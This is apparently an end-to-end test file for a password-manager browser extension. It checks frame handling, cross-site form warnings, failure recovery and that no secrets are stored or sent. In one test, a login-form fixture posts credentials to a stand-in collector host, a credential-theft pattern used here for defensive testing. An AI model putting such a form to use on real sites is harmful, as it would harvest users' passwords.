/** BX4, BX5, BX7, BX8 in the real extension: frames, forms that send elsewhere, what is stored and sent, parts that stop. */
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Page } from 'playwright-core';
import { storageOf } from './testing/browser/browser-storage.ts';
import { popupOf } from './testing/extension/in-popup.ts';
import { beginStory, ENTRY, FORM, LOGIN, PASSWORD, type Story, valuesOf } from './testing/extension/story.ts';
import { type RecordingProxy, startRecordingProxy } from './testing/server/recording-proxy.ts';
import { freePort } from './testing/server/server.ts';
import { PERSON } from './testing/vault/screen.ts';

let story: Story;
/** The extension reaches the server through it. */
let proxy: RecordingProxy;
let page: Page;
let popup: Page;
let inPopup: ReturnType<typeof popupOf>;

/** Of a request that does not reach the server. */
let isLost = (_method: string, _url: string) => false;
const CLOSED_PORT = 1;

/** The page in a tab, and the popup after a click on the button there. */
async function visit(host: string, html: string) {
  await page?.close();
  page = await story.extension.open(story.extension.serve(host, html));
  await story.extension.grant(page);
  popup = await story.extension.popup(page);
  popup.setDefaultTimeout(15_000);
  inPopup = popupOf(popup);
}

async function choose() {
  await inPopup.field('Search').fill('billing');
  await inPopup.press(`Use ${ENTRY} here`);
}

beforeAll(async () => {
  story = await beginStory();
  proxy = await startRecordingProxy(await freePort(), (method, url) =>
    isLost(method, url) ? CLOSED_PORT : story.server.port,
  );
  await visit('shop.localhost', FORM);
  await inPopup.pair(proxy.origin);
  await inPopup.signIn();
  await inPopup.unlock();
  await inPopup.compareWords();
});
afterAll(async () => {
  await story?.end();
  await proxy?.close();
});

test('BX4 a form in a frame is not filled, and the frame is named', async () => {
  const before = await story.reveals();
  const inner = story.extension.serve('login.localhost', FORM);
  await visit('shop.localhost', `<!doctype html><iframe src="${inner}" width=400 height=300></iframe>`);
  await page.frameLocator('iframe').getByLabel('Password').waitFor();
  await choose();
  await inPopup.press('Fill once');
  await popup.getByText(`The sign-in form is in a frame of ${new URL(inner).origin}.`).waitFor();
  expect(await page.frames()[1]?.evaluate(() => document.querySelector('input')?.value)).toBe('');
  expect(await story.reveals()).toBe(before);
});

test('BX4 a page that changed between the question and the fill gets nothing', async () => {
  await visit('shop.localhost', FORM);
  await choose();
  await popup.getByText('This entry is not kept for this host.').waitFor();
  await page.goto(story.extension.serve('evil.localhost', FORM));
  await inPopup.press('Fill once');
  await popup.getByRole('alert').waitFor();
  expect(await valuesOf(page)).toEqual(['', '']);
});

test('BX5 a form that sends to another site is asked about', async () => {
  const before = await story.reveals();
  await visit('shop.localhost', FORM.replace('<form>', '<form method=post action="http://collector.example/take">'));
  await choose();
  await inPopup.press('Fill once');
  await popup.getByText('The form sends to collector.example.').waitFor();
  expect(await story.reveals()).toBe(before);
  await inPopup.press('Cancel');
  expect(await valuesOf(page)).toEqual(['', '']);
});

test('BX8 the service worker is stopped before each step: the fill ends well', async () => {
  const session = await story.extension.context.browser()?.newBrowserCDPSession();
  const stop = async () => {
    const { targetInfos } = (await session?.send('Target.getTargets')) ?? { targetInfos: [] };
    for (const { targetId, type } of targetInfos)
      if (type === 'service_worker') await session?.send('Target.closeTarget', { targetId });
  };
  await visit('shop.localhost', FORM);
  await inPopup.field('Search').fill('billing');
  await stop();
  await inPopup.press(`Use ${ENTRY} here`);
  await popup.getByText('This entry is not kept for this host.').waitFor();
  await stop();
  await inPopup.press('Fill once');
  await expect.poll(() => valuesOf(page)).toEqual([LOGIN, PASSWORD]);
});

test('BX8 while the server is away nothing is filled, and the popup says so', async () => {
  await visit('shop.localhost', FORM);
  await choose();
  await popup.getByText('This entry is not kept for this host.').waitFor();
  await story.server.end();
  await inPopup.press('Fill once');
  await popup.getByText('The server cannot be reached.').first().waitFor();
  expect(await valuesOf(page)).toEqual(['', '']);
  await story.server.restart();
});

test('BX8 a save that breaks off is undone by Cancel, and completed by another press', async () => {
  const entries = async () => {
    interface Found {
      readonly data: readonly { readonly title: string; readonly passwords: readonly { readonly login: string }[] }[];
    }
    return (await story.at.call<Found>('GET', '/passwordBroker/api/entrySearch?q=kiosk')).data;
  };
  await visit('kiosk.localhost', FORM.replace('Shop', 'Kiosk'));
  await page.getByLabel('User').fill('nina');
  await page.getByLabel('Password').fill('canary-77d1 kiosk');
  const saveInVain = async () => {
    await inPopup.press('Save from this page');
    await inPopup.press('Save');
    await popup.getByText('The server cannot be reached.').waitFor();
  };
  isLost = (method, url) => method === 'POST' && url.endsWith('/fields');
  await saveInVain();
  expect(await entries()).toMatchObject([{ title: 'Kiosk', passwords: [] }]);
  await inPopup.press('Cancel');
  await expect.poll(entries).toEqual([]);

  await saveInVain();
  isLost = () => false;
  await inPopup.press('Save');
  await popup.getByText('Kiosk is saved.').waitFor();
  expect(await entries()).toMatchObject([{ title: 'Kiosk', passwords: [{ login: 'nina' }] }]);
});

test('BX8 two windows: each popup fills its own page, and after a lock in one the other fills nothing', async () => {
  await visit('shop.localhost', FORM);
  const [first, firstPopup] = [page, popup];
  await choose();
  const opened = story.extension.context.waitForEvent('page');
  const address = story.extension.serve('store.localhost', FORM);
  await (
    await story.extension.worker()
  ).evaluate(async (url) => {
    const { chrome } = globalThis as unknown as { chrome: { windows: { create(of: object): Promise<unknown> } } };
    await chrome.windows.create({ url, focused: true });
  }, address);
  const second = await opened;
  await second.waitForURL(address);
  await story.extension.grant(second);
  const secondPopup = await story.extension.popup(second);
  const inSecond = popupOf(secondPopup);
  await secondPopup.getByText(/^Nothing is kept for store\.localhost/).waitFor();
  await inSecond.field('Search').fill('billing');
  await inSecond.press(`Use ${ENTRY} here`);
  await inSecond.press('Fill once');
  await expect.poll(() => valuesOf(second)).toEqual([LOGIN, PASSWORD]);
  expect(await valuesOf(first)).toEqual(['', '']);

  const third = await story.extension.popup(second);
  await popupOf(third).press('Lock');
  await popupOf(third).field('Master password').waitFor();
  const before = await story.reveals();
  await popupOf(firstPopup).press('Fill once');
  await firstPopup.getByText('The vault was locked meanwhile. Nothing was filled.').first().waitFor();
  expect([await valuesOf(first), await story.reveals()]).toEqual([['', ''], before]);
  await third.close();
  await second.close();
  await visit('shop.localhost', FORM);
  await inPopup.unlock();
  await inPopup.field('Search').waitFor();
});

test('BX7 nothing secret is stored or sent, no cookie, and only the paired server is asked', async () => {
  await visit('shop.localhost', FORM);
  await inPopup.field('Search').or(inPopup.field('Master password')).waitFor();
  const { kept, client } = await storageOf(popup);
  const areas = await (
    await story.extension.worker()
  ).evaluate(async () => {
    const { storage } = (
      globalThis as unknown as { chrome: { storage: Record<'local' | 'session', { get(): Promise<object> }> } }
    ).chrome;
    return JSON.stringify([await storage.local.get(), await storage.session.get()]);
  });
  expect(areas).toBe('[{},{}]');
  const sent = Buffer.concat(proxy.requests().map(({ bytes }) => bytes));
  for (const canary of [PASSWORD, PERSON.masterPassword]) {
    const bytes = Buffer.from(canary);
    for (const text of [canary, bytes.toString('base64'), encodeURIComponent(canary)]) {
      expect(kept.includes(text)).toBe(false);
      expect(client.includes(text)).toBe(false);
      expect(sent.includes(text)).toBe(false);
    }
  }
  expect(kept.includes(PERSON.password)).toBe(false);
  expect(proxy.requests().length).toBeGreaterThan(5);
  for (const { bytes } of proxy.requests()) expect(bytes.toString('latin1')).not.toMatch(/^cookie$/im);
});

test('BX8 an update during a fill closes the popup, and nothing is filled', async () => {
  await visit('shop.localhost', FORM);
  await inPopup.field('Search').waitFor();
  await choose();
  await popup.getByText('This entry is not kept for this host.').waitFor();
  const before = await story.reveals();
  const closed = popup.waitForEvent('close');
  const worker = await story.extension.worker();
  // Its answer is lost with the worker.
  void worker
    .evaluate(() => (globalThis as unknown as { chrome: { runtime: { reload(): void } } }).chrome.runtime.reload())
    .catch(() => undefined);
  await closed;
  expect([await valuesOf(page), await story.reveals()]).toEqual([['', ''], before]);
});
